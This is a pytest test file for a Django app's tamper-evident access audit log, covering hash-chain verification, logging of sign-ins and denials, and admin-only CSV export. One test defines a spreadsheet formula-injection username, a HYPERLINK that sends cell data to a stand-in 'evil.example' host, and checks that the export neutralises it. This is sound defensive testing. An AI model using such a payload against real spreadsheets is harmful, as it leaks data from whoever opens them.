from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audit.models import AccessEvent, Action, AppendOnlyError
from audit.services import Entry, record_access, record_access_many, verify_chain
from tests.factories import login_staff

pytestmark = pytest.mark.django_db


def raw(sql: str, params: list) -> None:
    with connection.cursor() as cursor:
        cursor.execute(sql, params)


def test_chain_verifies_and_detects_an_edited_row(org):
    events = [
        record_access(action=Action.VIEW, user=org.counselor, object_type="x", object_id=i)
        for i in range(5)
    ]
    assert verify_chain().ok
    raw("UPDATE audit_accessevent SET username = %s WHERE id = %s", ["someone", events[2].pk])
    report = verify_chain()
    assert not report.ok and report.broken_at == events[2].pk


def test_chain_detects_a_deleted_middle_row_and_a_missing_tail(org):
    events = [record_access(action=Action.VIEW, user=org.counselor) for _ in range(4)]
    raw("DELETE FROM audit_accessevent WHERE id = %s", [events[3].pk])
    report = verify_chain()
    assert not report.ok and "missing" in report.reason
    raw("DELETE FROM audit_accessevent WHERE id = %s", [events[1].pk])
    assert verify_chain().broken_at == events[2].pk


def test_application_cannot_update_or_delete(org):
    event = record_access(action=Action.VIEW, user=org.counselor)
    event.detail = "changed"
    with pytest.raises(AppendOnlyError):
        event.save()
    with pytest.raises(AppendOnlyError):
        event.delete()
    with pytest.raises(AppendOnlyError):
        AccessEvent.objects.all().delete()
    with pytest.raises(AppendOnlyError):
        AccessEvent.objects.update(detail="x")


def test_verify_command_exit_status(org):
    event = record_access(action=Action.VIEW, user=org.counselor)
    call_command("verify_access_log")
    raw("UPDATE audit_accessevent SET success = %s WHERE id = %s", [False, event.pk])
    with pytest.raises(CommandError, match="tampered"):
        call_command("verify_access_log")


FIELDS = ["username", "role", "action", "object_type", "object_id", "detail", "ip"]


@settings(
    max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None
)
@given(
    details=st.lists(st.text(max_size=20), min_size=1, max_size=8),
    victim=st.integers(min_value=0, max_value=7),
    field=st.sampled_from(FIELDS),
)
def test_any_single_edit_breaks_the_chain(org, details, victim, field):
    start = AccessEvent.objects.count()
    events = [record_access(action=Action.VIEW, user=org.counselor, detail=d) for d in details]
    assert verify_chain().ok
    target = events[victim % len(events)]
    value = "10.9.9.9" if field == "ip" else "tampered\u2603"
    raw(f"UPDATE audit_accessevent SET {field} = %s WHERE id = %s", [value, target.pk])  # noqa: S608
    assert verify_chain().broken_at == target.pk
    raw("DELETE FROM audit_accessevent WHERE id >= %s", [events[0].pk])
    raw(
        "UPDATE audit_accessloghead SET count = %s, last_hash = %s",
        [
            start,
            AccessEvent.objects.order_by("-id").values_list("hash", flat=True).first() or "0" * 64,
        ],
    )


def test_sign_in_failure_and_sign_out_are_logged(client, org):
    client.post("/accounts/login/", {"username": "learner", "password": "wrong"})
    client.post("/accounts/login/", {"username": "learner", "password": "Test-pass-2026!"})
    client.post("/accounts/logout/")
    actions = list(AccessEvent.objects.order_by("id").values_list("action", "username", "success"))
    assert (Action.LOGIN_FAILED, "learner", False) in actions
    assert (Action.LOGIN, "learner", True) in actions
    assert (Action.LOGOUT, "learner", True) in actions
    assert AccessEvent.objects.filter(action=Action.LOGIN).first().ip == "127.0.0.1"


def test_viewing_a_person_is_logged_and_out_of_scope_is_a_logged_denial(client, org):
    login_staff(client, org.counselor)
    client.get(reverse("people_person_detail", args=[org.person.pk]))
    view = AccessEvent.objects.get(action=Action.VIEW)
    assert (view.person_id, view.username, view.role) == (org.person.pk, "counselor", "counselor")
    assert (
        client.get(reverse("people_person_detail", args=[org.other_person.pk])).status_code == 404
    )
    denied = AccessEvent.objects.get(action=Action.DENIED)
    assert denied.person_id == org.other_person.pk and not denied.success


def test_permission_denials_are_logged(client, org):
    login_staff(client, org.counselor)
    # Wagtail's admin answers a denial with a redirect and a message; it is logged all the same.
    assert client.get(reverse("people_roster_import")).status_code in (302, 403)
    assert AccessEvent.objects.filter(
        action=Action.DENIED, username="counselor", object_id="/admin/people/import/"
    ).exists()


def test_administrator_browses_filters_and_exports(client, org):
    record_access(action=Action.VIEW, user=org.counselor, person_id=org.person.pk)
    login_staff(client, org.administrator)
    page = client.get(reverse("audit_access_log"), {"username": "counselor"})
    assert page.status_code == 200
    assert 'data-testid="access-log"' in page.text and "counselor" in page.text
    assert 'data-testid="access-log-export"' in page.text
    assert '<input type="hidden" name="username" value="counselor">' in page.text
    assert client.get(reverse("audit_access_log_export")).status_code == 405  # never a link
    export = client.post(reverse("audit_access_log_export"), {"action": "view"})
    body = b"".join(export.streaming_content).decode("utf-8-sig")
    assert body.splitlines()[0].startswith("id,at,user_id,username")
    assert "counselor" in body
    assert AccessEvent.objects.filter(action=Action.EXPORT, username="administrator").exists()


HOSTILE_USERNAME = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'


def test_a_hostile_sign_in_username_reaches_the_export_neutralised(client, org):
    """Anyone on the internet types the username of a failed sign-in; the export must not
    hand it to a spreadsheet as a formula."""
    client.post(reverse("login"), {"username": HOSTILE_USERNAME, "password": "wrong"})
    for prefix in ("+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"):
        record_access(action=Action.VIEW, username=prefix, detail=prefix)
    login_staff(client, org.administrator)
    export = client.post(reverse("audit_access_log_export"))
    body = b"".join(export.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    usernames = [row[3] for row in rows[1:]]
    assert "'" + HOSTILE_USERNAME in usernames
    assert {"'+1", "'-1+1", "'@SUM(1)", "'\t=1", "'\r=1"} <= set(usernames)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_bad_filter_changes_nothing_and_shows_no_rows(client, org):
    record_access(action=Action.VIEW, user=org.counselor)
    login_staff(client, org.administrator)
    page = client.get(reverse("audit_access_log"), {"since": "2026-13-45", "person_id": "x"})
    assert page.status_code == 200
    assert "counselor</td>" not in page.text


@pytest.mark.parametrize("role", ["counselor", "officer", "lecturer"])
def test_only_administrators_see_the_log(client, org, role):
    login_staff(client, getattr(org, role))
    assert client.get(reverse("audit_access_log")).status_code in (302, 403)
    assert client.post(reverse("audit_access_log_export")).status_code in (302, 403)
    assert AccessEvent.objects.filter(action=Action.DENIED, username=role).count() == 2


def test_learner_and_anonymous_cannot_reach_the_log(client, org):
    assert client.get(reverse("audit_access_log")).status_code == 302
    login_staff(client, org.learner)
    response = client.get(reverse("audit_access_log"))
    assert response.status_code in (302, 403)


def test_many_events_at_once_continue_the_same_chain(org, django_assert_num_queries):
    first = record_access(action=Action.VIEW, user=org.counselor)
    with django_assert_num_queries(6):  # head (savepoint, lock), insert, head update, roles
        events = record_access_many(
            user=org.officer,
            action=Action.CHANGE,
            entries=[
                Entry(obj=org.person, person_id=org.person.pk, detail=f"d{i}") for i in range(3)
            ],
        )
    last = record_access(action=Action.VIEW, user=org.counselor)
    stored = list(AccessEvent.objects.order_by("id"))
    assert [e.pk for e in stored] == [first.pk, *(e.pk for e in events), last.pk]
    assert [e.detail for e in stored[1:4]] == ["d0", "d1", "d2"]
    assert {(e.object_type, e.object_id, e.username) for e in stored[1:4]} == {
        ("people.person", str(org.person.pk), org.officer.get_username())
    }
    assert verify_chain().ok
